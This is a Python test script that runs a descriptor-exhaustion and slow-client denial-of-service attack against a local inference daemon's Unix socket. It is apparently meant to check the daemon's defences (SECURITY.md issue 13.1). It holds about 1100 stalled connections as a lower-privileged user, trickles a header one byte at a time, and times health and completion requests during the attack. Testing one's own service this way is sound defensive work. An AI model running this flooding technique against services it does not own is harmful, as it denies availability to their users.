#!/usr/bin/env python3
"""Descriptor-exhaustion and slow-client attack on an edged socket (SECURITY.md, issue 13.1).

As another local user (--uid, default 65534), open --connections connections that each send
part of a request line and then nothing, re-opening each one the daemon closes, for
--seconds; also (as the invoking user) keep one connection that sends one header byte every
--trickle-every seconds. Meanwhile, as the invoking user, time GET /health and a completion.
Prints one JSON object:

  health_s, completion_s    seconds to a complete answer (null: no answer within --timeout)
  health_status, completion_status
  trickle_closed_after_s    when the daemon closed the trickling connection (null: still open)
  attacker_opened           connections the attacker opened in total (re-opens included)

Needs root (to drop to --uid for the attacker) and a socket that uid may connect to.

    sudo python3 tools/attack_connections.py /run/edged/edged.sock --model demo
"""
import argparse
import http.client
import json
import os
import resource
import socket
import sys
import threading
import time

PARTIAL = b"POST /v1/completions HTT"


class _Unix(http.client.HTTPConnection):
    def __init__(self, path, timeout):
        super().__init__("edged", timeout=timeout)
        self.path_ = path

    def connect(self):
        self.sock = socket.socket(socket.AF_UNIX, socket.SOCK_STREAM)
        self.sock.settimeout(self.timeout)
        self.sock.connect(self.path_)


def _timed(path, method, url, body, timeout):
    t0 = time.monotonic()
    c = _Unix(path, timeout)
    try:
        c.request(method, url, body=None if body is None else json.dumps(body),
                  headers={"Content-Type": "application/json"} if body is not None else {})
        r = c.getresponse()
        r.read()
        return time.monotonic() - t0, r.status
    except OSError as e:
        return None, f"{type(e).__name__}: {e}"
    finally:
        c.close()


def _attacker(path, n, seconds, uid, opened_w):
    """Child process: drop to `uid`, hold `n` stalled connections for `seconds`."""
    resource.setrlimit(resource.RLIMIT_NOFILE, (n + 256, n + 256))
    os.setgroups([])
    os.setgid(uid)
    os.setuid(uid)
    conns, opened = [], 0
    end = time.monotonic() + seconds

    def one():
        s = socket.socket(socket.AF_UNIX, socket.SOCK_STREAM)
        s.setblocking(False)
        try:
            s.connect(path)
            s.send(PARTIAL)
        except OSError:
            pass
        return s

    while time.monotonic() < end:
        alive = []
        for s in conns:
            try:
                if s.recv(1, socket.MSG_PEEK | socket.MSG_DONTWAIT) == b"":
                    s.close()
                    continue
            except BlockingIOError:
                pass
            except OSError:
                s.close()
                continue
            alive.append(s)
        conns = alive
        while len(conns) < n and time.monotonic() < end:
            conns.append(one())
            opened += 1
        time.sleep(0.05)
    os.write(opened_w, str(opened).encode())
    os._exit(0)


def _trickle(path, every, out, stop):
    s = socket.socket(socket.AF_UNIX, socket.SOCK_STREAM)
    s.connect(path)
    t0 = time.monotonic()
    data = b"GET /health HTTP/1.1\r\nX-Slow: " + b"a" * 10_000
    for i in range(len(data)):
        if stop.is_set():
            break
        try:
            s.send(data[i:i + 1])
            s.settimeout(every)
            if s.recv(1) == b"":
                out["trickle_closed_after_s"] = round(time.monotonic() - t0, 2)
                break
        except socket.timeout:
            continue
        except OSError:
            out["trickle_closed_after_s"] = round(time.monotonic() - t0, 2)
            break
    s.close()


def main(argv=None):
    ap = argparse.ArgumentParser(description=__doc__.split("\n\n")[0])
    ap.add_argument("socket")
    ap.add_argument("--connections", type=int, default=1100)
    ap.add_argument("--seconds", type=float, default=10.0)
    ap.add_argument("--uid", type=int, default=65534)
    ap.add_argument("--trickle-every", type=float, default=1.0)
    ap.add_argument("--model", default=None, help="model for the completion (default: the daemon's default)")
    ap.add_argument("--timeout", type=float, default=30.0)
    args = ap.parse_args(argv)

    r, w = os.pipe()
    pid = os.fork()
    if pid == 0:
        os.close(r)
        try:
            _attacker(args.socket, args.connections, args.seconds, args.uid, w)
        finally:
            os._exit(1)
    os.close(w)
    out = {"trickle_closed_after_s": None}
    stop = threading.Event()
    trickler = threading.Thread(target=_trickle, args=(args.socket, args.trickle_every, out, stop))
    trickler.start()
    time.sleep(min(2.0, args.seconds / 3))                  # let the attacker fill up
    out["health_s"], out["health_status"] = _timed(args.socket, "GET", "/health", None, args.timeout)
    body = {"prompt": "Once upon a time", "max_tokens": 8, "temperature": 0}
    if args.model:
        body["model"] = args.model
    out["completion_s"], out["completion_status"] = _timed(args.socket, "POST", "/v1/completions", body,
                                                           args.timeout)
    _, status = os.waitpid(pid, 0)
    out["attacker_opened"] = int(os.read(r, 64) or 0)
    stop.set()
    trickler.join()
    json.dump(out, sys.stdout)
    print()
    return 0


if __name__ == "__main__":
    sys.exit(main())
